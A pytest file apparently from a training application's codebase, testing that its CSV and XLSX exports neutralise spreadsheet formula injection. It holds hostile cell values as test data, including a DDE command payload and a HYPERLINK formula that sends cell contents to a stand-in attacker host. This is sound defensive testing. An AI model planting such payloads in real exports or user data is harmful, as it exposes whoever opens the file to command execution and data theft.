"""Every CSV and XLSX TIPCase writes: no cell a spreadsheet would evaluate, numbers still numbers.

The hostile names come from ``../shared/testdata/inputs/roster-formula-cells.csv`` (``=HYPERLINK(...)``,
``=cmd|' /C calc'!A0``, ``@SUM(A1)``, ``+62 Sari``, a tab before ``=1+1``), plus the separator trick that
Excel set to Indonesian falls for (``Budi;=1+1``). One test per export.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import stat
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.records import seed
from tipcase.certificates import register_report
from tipcase.certificates.register_report import RegisterRow
from tipcase.cli import main
from tipcase.services import accounts, analytics, courses, exports, roster
from tipcase.services.analytics import ChoiceShare, DayProgress, ScenarioAnalytics, StageDifficulty
from tipcase.services.errors import ServiceError
from tipcase.spreadsheets import SafeCsvWriter, csv_cell, looks_like_formula, safe_text
from tipcase.store.database import Database
from tipcase.store.models import Role, User

HOSTILE_FILE = Path(__file__).resolve().parents[2] / "shared" / "testdata" / "inputs" / "roster-formula-cells.csv"
PERIOD = (dt.date(2026, 1, 1), dt.date(2026, 12, 31))
SEPARATOR_TRICKS = ['Budi;=HYPERLINK("http://evil.example";"x")', "Sari,+1+1", "Dewi\t@SUM(A1)", 'a;"=1+1"']


def hostile_rows() -> list[dict[str, str]]:
    with HOSTILE_FILE.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def hostile_texts() -> list[str]:
    texts = [value for row in hostile_rows() for value in row.values() if value]
    return [*texts, *SEPARATOR_TRICKS]


def assert_csv_safe(text: str) -> list[list[str]]:
    """No cell a spreadsheet would evaluate: parsed by ',' as written, or cut at every ';' as Excel set to
    Indonesian (list separator ';') cuts a file it opens. Returns the rows parsed by ','."""
    for row in csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC):  # an unquoted cell must be a number
        for cell in row:
            assert isinstance(cell, float) or not looks_like_formula(cell), cell
    for line in text.splitlines():
        for segment in line.split(";")[1:]:
            start = segment.lstrip(' "')
            assert start[:1] not in ("=", "+", "@"), segment
            assert start[:1] != "-" or start[1:2] in ("", " ", ",", ";", '"'), segment
    return list(csv.reader(io.StringIO(text)))


def assert_xlsx_safe(path: Path, expected: list[str]) -> None:
    """No formula anywhere in the workbook; each hostile text is a string cell, kept exactly, quote-prefixed."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.search(rb"<f[ >]", archive.read(name)) is None, name
    book = openpyxl.load_workbook(path)
    cells = {cell.value: cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in expected:
        cell = cells[text.replace("\r", "\n") if text not in cells else text]
        assert cell.data_type == "s"
        assert cell.quotePrefix is looks_like_formula(text), text


def test_the_rule_follows_owasp_and_keeps_numbers() -> None:
    for text in ("=1+1", "+62 812", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", " =1", "\uff1d1+1", "\x00x"):
        assert safe_text(text) == "'" + text
    for text in ("Budi Santoso", "", "Rp 50.000,-", "'=already text", "Unit PPA"):
        assert safe_text(text) == text
    assert csv_cell(-2.5) == -2.5  # a real negative number stays a number
    assert csv_cell(0) == 0
    assert csv_cell(True) == "true"
    assert csv_cell(None) == ""
    assert csv_cell(dt.date(2026, 3, 1)) == "2026-03-01"
    assert csv_cell("Budi;=1+1") == "Budi;'=1+1"  # Excel with ';' as list separator would start a cell there
    assert csv_cell("Santoso, -") == "Santoso, -"
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator="\n").writerow(["=1+1", -2.5, 3, "a,b"])
    assert out.getvalue() == '"\'=1+1",-2.5,3,"a,b"\n'


@given(st.text(alphabet=st.sampled_from(list("=+-@ \t\r\n;,'\"ab1\x00\u3000\uff1d\xa0")) | st.characters(), max_size=12))
def test_any_text_becomes_a_cell_no_spreadsheet_evaluates_and_only_gains_apostrophes(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert not looks_like_formula(cell)
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.fixture
def hostile_world(db: Database) -> Database:
    """The demo, plus a trainee for each row of the hostile roster, with names, ranks and units as given.

    Stored as they are, as records made before a rule refused some of them hold them (a staff ID '=1+1' is no
    NRP or NIP today: tipcase.services.person_fields): an export is safe whatever the records hold.
    """
    with db.transaction() as session:
        seed(session)
        cohort = courses.get_cohort(session, "demo")
        people = [
            User(
                username=f"hostile-{n}", full_name=row["full_name"].strip(), role=Role.TRAINEE.value, rank=row["rank"].strip() or None,
                staff_id=row["staff_id"].strip() or None, unit=row["unit"].strip() or None, agency=row["agency"].strip() or None,
                password_hash="!",
            )
            for n, row in enumerate(hostile_rows())
        ]  # fmt: skip
        session.add_all(people)
        session.flush()
        courses.add_members(session, None, cohort, people)
        course = courses.get_course(session, "demo")
        from tipcase.services import attempts

        for person in people:
            attempts.start_attempt(session, person, course.items[0].scenario_version, course=course)
    return db


def test_attempts_export_csv(hostile_world: Database) -> None:
    with hostile_world.reading() as session:
        text = exports.attempts_csv(session, accounts.get_user(session, "demo-trainer"))
    rows = assert_csv_safe(text)
    names = {row[2] for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click for results")' in names
    assert "'@SUM(A1) Santoso" in names
    assert "'+62 Sari" in names
    staff_ids = {row[3] for row in rows[1:]}
    assert "'=1+1" in staff_ids


def test_attempts_export_from_the_command_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("TIPCASE_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("TIPCASE_DATABASE_URL", raising=False)
    assert main(["demo"]) == 0
    monkeypatch.setattr("sys.stdin", io.StringIO("hostile-password\n"))
    assert main(["users", "add", "hostile", "--role", "trainee", "--name", "=cmd|' /C calc'!A0", "--password-stdin"]) == 0
    monkeypatch.setenv("TIPCASE_PASSWORD", "hostile-password")
    from tests.records import CASE, SENT_HOME

    assert main(["record", str(CASE), "--user", "hostile", "--choose", ",".join(map(str, SENT_HOME))]) == 0  # a short route
    capsys.readouterr()
    assert main(["export", "attempts", "-o", str(tmp_path / "attempts.csv")]) == 0
    text = (tmp_path / "attempts.csv").read_text(encoding="utf-8")
    header, *rows = assert_csv_safe(text)
    [row] = [r for r in rows if r[header.index("username")] == "hostile"]  # beside the demo graduate's attempt
    assert row[header.index("full_name")] == "'=cmd|' /C calc'!A0"
    assert row[header.index("total_percent")] == "0.0"
    assert ",0.0," in text  # a number, unquoted


def _hostile_report() -> ScenarioAnalytics:
    texts = hostile_texts()
    return ScenarioAnalytics(
        cohort="demo",
        course="demo",
        scenario="imported-case",
        version=1,
        members=6,
        started=6,
        completed=5,
        passed=2,
        completion_rate=83.3,
        pass_rate=33.3,
        mean_percent=-1.5,  # never a real mean, but a negative number must stay a number
        competencies={"victim_care": 50.0},
        competency_titles={"victim_care": texts[0]},
        choices=[ChoiceShare("arrival", n + 1, text, 1, 10.0, True, False) for n, text in enumerate(texts)],
        hardest=[StageDifficulty("arrival", texts[1], 6, 3, 50.0)],
        critical_errors=[(text, 1) for text in texts],
        broken_rules=[("-rule", 2)],
        progress=[DayProgress(dt.date(2026, 3, 1), 5, 2)],
    )


def test_cohort_report_csv(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    analytics.export_csv(_hostile_report(), target)
    text = target.read_text(encoding="utf-8-sig")
    rows = assert_csv_safe(text)
    assert ["mean percent", "-1.5"] in rows
    assert '"mean percent",-1.5' in text
    labels = {row[2] for row in rows if len(row) == 7 and row[0] == "arrival"}
    assert "'=cmd|' /C calc'!A0" in labels
    assert 'Budi;\'=HYPERLINK("http://evil.example";"x")' in labels


def test_cohort_report_xlsx(tmp_path: Path) -> None:
    target = tmp_path / "report.xlsx"
    analytics.export_xlsx(_hostile_report(), target)
    assert_xlsx_safe(target, [t for t in hostile_texts() if "\t" not in t[1:]])
    summary = {row[0]: row[1] for row in openpyxl.load_workbook(target)["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["mean percent"] == -1.5  # still a number


def _hostile_register() -> list[RegisterRow]:
    rows = hostile_rows()
    return [
        RegisterRow(
            f"TC-2026-{n:06d}",
            "ABCDEFGHJKLM",
            row["full_name"],
            row["rank"],
            row["staff_id"],
            row["unit"],
            "demo",
            "2026-03-01",
            "",
            "revoked",
            "2026-03-02",
            row["agency"],
        )
        for n, row in enumerate(rows, 1)
    ]


def test_register_report_csv(tmp_path: Path) -> None:
    target = tmp_path / "register.csv"
    register_report.write(
        _hostile_register(), target, period=(dt.date(2026, 1, 1), dt.date(2026, 12, 31)), institution="@Pusdik", audit_entries=3
    )
    rows = assert_csv_safe(target.read_text(encoding="utf-8-sig"))
    assert rows[1][2] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click for results")'
    assert rows[2][5] == "'-2+3"


def test_register_report_xlsx(tmp_path: Path) -> None:
    target = tmp_path / "register.xlsx"
    register_report.write(
        _hostile_register(), target, period=(dt.date(2026, 1, 1), dt.date(2026, 12, 31)), institution="=Pusdik", audit_entries=3
    )
    hostile = [v for row in hostile_rows() for v in row.values() if v and "\t" not in v]
    assert_xlsx_safe(target, [*hostile, "=Pusdik: certificates issued 2026-01-01 to 2026-12-31"])


def test_new_accounts_passwords_csv(tmp_path: Path) -> None:
    target = tmp_path / "new-accounts.csv"
    previous = os.umask(0)  # the most permissive umask: the file is owner-only all the same
    try:
        roster.write_passwords(target, [("sri.90010111", "=1+1abcdefgh"), ("budi.1", "-Ab3dEfGh")])
    finally:
        os.umask(previous)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    rows = assert_csv_safe(target.read_text(encoding="utf-8-sig"))
    assert rows == [["username", "password"], ["sri.90010111", "'=1+1abcdefgh"], ["budi.1", "'-Ab3dEfGh"]]
    roster.write_passwords(target, [("sri.90010111", "another-one")])  # the app's Save dialog asked to replace it
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["new-accounts.csv"]  # no temporary file left behind
    with pytest.raises(ServiceError, match="cannot write the passwords to"):
        roster.write_passwords(tmp_path / "no-such-folder" / "new-accounts.csv", [("sri.90010111", "abcdefgh")])


def test_every_csv_and_xlsx_writer_goes_through_the_helper() -> None:
    """A new export that writes cells some other way would bring formulas back: none may."""
    root = Path(__file__).resolve().parents[1]
    for path in [*(root / "tipcase").rglob("*.py"), *(root / "ui").rglob("*.py")]:
        if path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        assert "csv.writer(" not in source, f"{path}: use tipcase.spreadsheets.SafeCsvWriter"
        assert "csv.DictWriter(" not in source, f"{path}: use tipcase.spreadsheets.SafeCsvWriter"
        if "Workbook(" in source:
            assert "append_row" in source, f"{path}: fill workbooks with tipcase.spreadsheets.append_row"
            assert re.search(r"sheet\.append\(|\.cell\([^)]*value=", source) is None, f"{path}: a cell written without the helper"
